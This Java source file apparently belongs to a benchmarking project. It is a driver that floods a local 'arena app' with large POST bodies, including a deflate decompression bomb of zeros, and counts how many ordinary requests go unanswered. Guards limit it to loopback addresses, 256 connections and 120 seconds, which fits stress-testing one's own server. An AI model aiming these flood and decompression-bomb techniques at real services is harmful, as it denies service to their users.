package dev.pronto.jmh.hostile;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.Deflater;
import java.util.zip.Inflater;
import java.util.zip.InflaterInputStream;

/**
 * The teleport memory attacks as a standalone driver, to run against the arena app while sampling
 * its RSS: {@code host port connections bytes flate|upload [messages] [httpProbePort]}. Each connection
 * sends {@code messages} {@code POST /upload} bodies of {@code bytes} back to back: {@code flate} as one
 * deflate stream of zeros (a few KiB on the wire per MiB), {@code upload} uncompressed. It prints the
 * answers by status, connections that failed, and, with a probe port, how many ordinary HTTP/1.1
 * {@code GET /pipeline} requests (one per 100 ms) got no answer within 2 s. It targets only a loopback
 * address and stops after the answers arrive or 120 s.
 */
public final class TeleportFlood {
    private static final byte[] SNIFF = "httpteleport".getBytes(StandardCharsets.US_ASCII);
    private static final long DEADLINE_SECONDS = 120;

    private TeleportFlood() {
    }

    public static void main(String[] args) throws Exception {
        if (args.length < 5) {
            System.err.println("usage: TeleportFlood host port connections bytes flate|upload [messages] [httpProbePort]");
            System.exit(2);
        }
        InetAddress host = InetAddress.getByName(args[0]);
        if (!host.isLoopbackAddress()) {
            throw new IllegalArgumentException("host: only a loopback address may be attacked, got " + host);
        }
        int port = Integer.parseInt(args[1]);
        int connections = Math.min(Integer.parseInt(args[2]), 256);
        int bytes = Integer.parseInt(args[3]);
        boolean flate = args[4].equals("flate");
        int messages = args.length > 5 ? Integer.parseInt(args[5]) : (flate ? 1 : 4);
        byte[] wire = flate ? deflate(messages(messages, bytes)) : null;
        if ((long) messages * bytes > Integer.MAX_VALUE - 1024 || messages < 1 || bytes < 0) {
            throw new IllegalArgumentException("messages x bytes must be under 2 GiB, got " + messages + " x " + bytes);
        }
        var statuses = new ConcurrentHashMap<Integer, AtomicInteger>();
        AtomicInteger failed = new AtomicInteger();
        var done = new CountDownLatch(connections);
        long start = System.nanoTime();
        try (var pool = Executors.newVirtualThreadPerTaskExecutor()) {
            for (int c = 0; c < connections; c++) {
                pool.submit(() -> {
                    try {
                        attack(host, port, flate, wire, messages, bytes, statuses);
                    } catch (IOException | RuntimeException e) {
                        failed.incrementAndGet();
                        System.err.println("connection failed: " + e);
                    } finally {
                        done.countDown();
                    }
                });
            }
            if (args.length > 6) {
                pool.submit(() -> probe(host, Integer.parseInt(args[6]), done));
            }
            pool.shutdown();
            pool.awaitTermination(DEADLINE_SECONDS, TimeUnit.SECONDS);
            pool.shutdownNow();
        }
        System.out.printf("%d connections x %d messages of %d bytes (%s): answers by status %s, failed connections %d, %.2f s%n",
                connections, messages, bytes, args[4], statuses, failed.get(), (System.nanoTime() - start) / 1e9);
    }

    private static void attack(InetAddress host, int port, boolean flate, byte[] wire, int messages, int bytes,
                               ConcurrentHashMap<Integer, AtomicInteger> statuses) throws IOException {
        try (Socket s = new Socket(host, port)) {
            s.setSoTimeout((int) TimeUnit.SECONDS.toMillis(DEADLINE_SECONDS));
            OutputStream out = s.getOutputStream();
            out.write(SNIFF);
            out.write(new byte[] {0, (byte) (flate ? 0 : 1), 0});
            out.flush();
            InputStream raw = s.getInputStream();
            raw.readNBytes(15);
            Thread writer = Thread.ofVirtual().start(() -> send(out, flate, wire, messages, bytes));
            DataInputStream in = new DataInputStream(flate ? new InflaterInputStream(raw, new Inflater(true)) : raw);
            for (int i = 0; i < messages; i++) {
                statuses.computeIfAbsent(readStatus(in), k -> new AtomicInteger()).incrementAndGet();
            }
            writer.interrupt();
        }
    }

    private static void send(OutputStream out, boolean flate, byte[] wire, int messages, int bytes) {
        try {
            if (flate) {
                out.write(wire);
            } else {
                byte[] body = new byte[Math.min(bytes, 1 << 20)];
                for (int i = 1; i <= messages; i++) {
                    out.write(head(i, bytes));
                    for (int left = bytes; left > 0; left -= body.length) {
                        out.write(body, 0, Math.min(left, body.length));
                    }
                }
            }
            out.flush();
        } catch (IOException closed) {
            // the reader reports the connection's failure
        }
    }

    /** Reads one response (id, head, Content-Length body) and returns its status. */
    private static int readStatus(DataInputStream in) throws IOException {
        in.readInt();
        var head = new StringBuilder();
        while (head.length() < 4 || head.lastIndexOf("\r\n\r\n") != head.length() - 4) {
            head.append((char) in.readUnsignedByte());
        }
        String text = head.toString().toLowerCase();
        int at = text.indexOf("content-length:");
        if (at >= 0) {
            in.readNBytes(Integer.parseInt(text.substring(at + 15, text.indexOf('\r', at)).trim()));
        }
        return Integer.parseInt(text.substring(9, 12));
    }

    /** Ordinary requests, one per 100 ms, until the attack is over. */
    private static void probe(InetAddress host, int port, CountDownLatch done) {
        HttpClient client = HttpClient.newHttpClient();
        var uri = URI.create("http://" + host.getHostAddress() + ":" + port + "/pipeline");
        int sent = 0;
        int missed = 0;
        try {
            while (!done.await(100, TimeUnit.MILLISECONDS)) {
                sent++;
                try {
                    client.send(HttpRequest.newBuilder(uri).timeout(Duration.ofSeconds(2)).build(),
                            HttpResponse.BodyHandlers.discarding());
                } catch (IOException e) {
                    missed++;
                }
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        System.out.printf("probe: %d ordinary requests, %d unanswered within 2 s%n", sent, missed);
    }

    private static byte[] messages(int messages, int bytes) {
        var all = new ByteArrayOutputStream();
        for (int i = 1; i <= messages; i++) {
            all.writeBytes(head(i, bytes));
            all.writeBytes(new byte[bytes]);
        }
        return all.toByteArray();
    }

    private static byte[] head(int id, int bytes) {
        byte[] http = ("POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: " + bytes + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
        byte[] out = new byte[4 + http.length];
        out[0] = (byte) id;
        out[1] = (byte) (id >>> 8);
        System.arraycopy(http, 0, out, 4, http.length);
        return out;
    }

    private static byte[] deflate(byte[] plain) {
        Deflater d = new Deflater(Deflater.BEST_COMPRESSION, true);
        d.setInput(plain);
        var out = new ByteArrayOutputStream();
        byte[] buf = new byte[1 << 16];
        int n;
        while ((n = d.deflate(buf, 0, buf.length, Deflater.SYNC_FLUSH)) > 0) {
            out.write(buf, 0, n);
        }
        d.end();
        return out.toByteArray();
    }
}
